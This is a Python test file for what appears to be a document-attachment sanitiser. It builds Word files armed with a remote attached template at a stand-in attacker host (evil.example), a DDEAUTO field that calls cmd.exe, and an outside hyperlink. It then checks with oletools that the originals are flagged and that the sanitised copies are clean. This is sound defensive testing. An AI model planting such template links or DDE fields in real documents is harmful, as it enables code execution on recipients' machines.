"""Others' eyes on the copies: oletools finds what acts in the originals, and nothing in what comes out."""

import re
import subprocess
import sys
from pathlib import Path

import pytest

from yakusho.desk.attachments.child import made
from yakusho.desk.attachments.tests import corpus

pytestmark = pytest.mark.sqlite  # no database is asked

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
TEMPLATE = {"word/_rels/document.xml.rels": corpus.relations("attachedTemplate", "http://evil.example/t.dotm")}
FIELD = {"word/document.xml": corpus.document_xml('<w:p><w:fldSimple w:instr="DDEAUTO cmd.exe"/></w:p>')}
OUTSIDE = re.compile(r"external link (\S+)")
LINK = {"word/_rels/document.xml.rels": corpus.relations("hyperlink", "https://evil.example/")}


def _said(tool: str, file: Path) -> str:
    """What a tool prints of a file; its own warnings about its libraries are not ours to mend."""
    line = [sys.executable, "-W", "ignore", "-m", f"oletools.{tool}", str(file)]
    return subprocess.run(line, capture_output=True, check=False, text=True).stdout


def _findings(content: bytes, file: Path) -> tuple[set[str], bool]:
    """Where the file reaches to outside, and whether it has a field that starts a program."""
    file.write_bytes(content)
    return set(OUTSIDE.findall(_said("oleobj", file))), "DDEAUTO" in _said("msodde", file)


def test_what_acts_is_known_to_oletools_and_does_not_come_out(tmp_path: Path) -> None:
    assert _findings(corpus.docx(**TEMPLATE), tmp_path / "template.docx") == ({"http://evil.example/t.dotm"}, False)
    assert _findings(corpus.docx(**FIELD), tmp_path / "field.docx") == (set(), True)
    for armed in (TEMPLATE, FIELD):
        assert made(corpus.docx(**armed), DOCX, keep_text=False)[1] == b""
    _, copy = made(corpus.docx(**LINK), DOCX, keep_text=False)
    assert copy
    assert _findings(copy, tmp_path / "copy.docx") == ({"about:blank"}, False)
